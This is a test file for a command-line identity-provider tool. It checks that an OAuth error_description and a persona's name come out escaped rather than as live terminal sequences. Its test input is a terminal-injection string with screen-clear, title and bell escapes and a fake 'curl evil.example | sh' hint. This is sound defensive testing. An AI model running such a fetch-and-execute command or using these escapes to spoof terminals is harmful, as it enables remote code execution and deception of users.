// Untrusted text never drives the terminal: an upstream's error_description on the callback and a persona's name
// carrying a screen clear, a title change with a bell and a fake "hint:" line come out escaped on stderr and stdout,
// live and when `idp flows show` / `idp events` replay them, with --no-color and with colour; --json stays JSON.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Renderer, type StageLine } from '../../src/cli/render.js';
import { IdpError } from '../../src/core/errors.js';
import type { FlowState } from '../../src/flow/types.js';
import { expectCode, runIdp, seededHome } from '../helpers/idp.js';
import { githubPersona, loginWorld, personasFile } from '../helpers/login.js';
import { loginEngine } from '../../src/cli/context.js';

const HOSTILE = 'Mal\u001b[2J\u001b]0;owned\u0007\nhint: run curl evil.example | sh';

/** No escape or bell but idp's own colour codes (when `colour`), and no line the upstream made up. */
function assertInert(text: string, where: string, colour = false): void {
  const withoutColour = colour ? text.replace(/\u001b\[\d{1,2}m/g, '') : text;
  assert.equal(withoutColour.includes('\u001b'), false, `${where}: no ESC\n${JSON.stringify(text)}`);
  assert.equal(text.includes('\u0007'), false, `${where}: no BEL`);
  assert.equal(/^\s*hint: run curl/m.test(text), false, `${where}: no injected line\n${text}`);
}

function capture(): { stream: NodeJS.WriteStream; text: () => string } {
  let written = '';
  const stream = {
    isTTY: false,
    write: (chunk: string) => ((written += chunk), true),
  } as unknown as NodeJS.WriteStream;
  return { stream, text: () => written };
}

test('an upstream error_description on the callback is shown escaped, live and in flows show / events', async (t) => {
  const w = await loginWorld(t);
  const stdout = capture();
  const stderr = capture();
  const out = new Renderer(
    { json: false, quiet: false, color: false, debug: false },
    stdout.stream as typeof process.stdout,
    stderr.stream as typeof process.stderr,
  );
  const engine = await loginEngine({
    store: w.store,
    upstreams: w.upstreams,
    onEvent: (e) => out.stage(e as StageLine),
  });
  const started = await engine.start('thrift');
  const redirect = await engine.submit(started.flow, { choose: 'github', redirectUri: 'http://127.0.0.1:9/callback' });
  assert.ok(redirect.status === 'active' && redirect.waiting === 'redirect');
  const { waiting } = JSON.parse((await w.store.flows.get(redirect.flow))!.state) as FlowState;
  assert.ok(waiting.kind === 'redirect');
  const callback = new URL('http://127.0.0.1:9/callback');
  callback.search = new URLSearchParams({
    state: waiting.auth.state,
    error: 'server_error',
    error_description: HOSTILE,
  }).toString();
  const failed = await engine.submit(redirect.flow, { callback: callback.href });
  assert.ok(failed.status === 'failed');
  assert.ok(failed.error.message.includes(HOSTILE), 'the flow keeps the raw text; only what is printed is escaped');
  out.error(new IdpError(failed.error.code, failed.error.message, failed.error.hint ?? undefined), { document: false });
  assertInert(stderr.text(), 'the live stages and error');
  assert.match(stderr.text(), /Mal\\x1b\[2J\\x1b\]0;owned\\x07\\nhint: run curl/, 'shown escaped, on the same line');

  for (const args of [['flows', 'show', redirect.flow], ['events'], ['events', '--flow', redirect.flow]]) {
    const plain = expectCode(await runIdp([...args, '--no-color'], { home: w.home }), 0);
    assertInert(plain.stdout + plain.stderr, `idp ${args.join(' ')} --no-color`);
    const coloured = expectCode(await runIdp(args, { home: w.home, env: { FORCE_COLOR: '1' } }), 0);
    assertInert(coloured.stdout + coloured.stderr, `idp ${args.join(' ')} in colour`, true);
  }
  const json = JSON.parse(
    expectCode(await runIdp(['flows', 'show', redirect.flow, '--json'], { home: w.home }), 0).stdout,
  );
  assert.ok(
    JSON.stringify(json).includes(JSON.stringify(HOSTILE).slice(1, -1)),
    '--json carries the raw text, JSON-escaped',
  );
});

test("a persona's name is shown escaped by login, users show/list, flows show and events; --json keeps it raw", async () => {
  const home = await seededHome();
  const personas = personasFile({ github: [githubPersona('mallory', 66_666, { name: HOSTILE })] });
  const login = ['login', '--app', 'thrift', '--connection', 'github', '--as', 'mallory', '--personas', personas];
  const r = expectCode(await runIdp([...login, '--no-color'], { home }), 0);
  assertInert(r.stderr, 'login stderr');
  assertInert(r.stdout, 'login stdout');
  assert.match(r.stdout, /Mal\\x1b\[2J/);
  const doc = JSON.parse(expectCode(await runIdp([...login, '--json'], { home }), 0).stdout);
  assert.equal(doc.claims.name, HOSTILE);
  for (const args of [['users', 'show', 'mallory'], ['users', 'list'], ['flows', 'show', doc.flow], ['events']]) {
    const shown = expectCode(await runIdp([...args, '--no-color'], { home }), 0);
    assertInert(shown.stdout + shown.stderr, `idp ${args.join(' ')}`);
  }
});
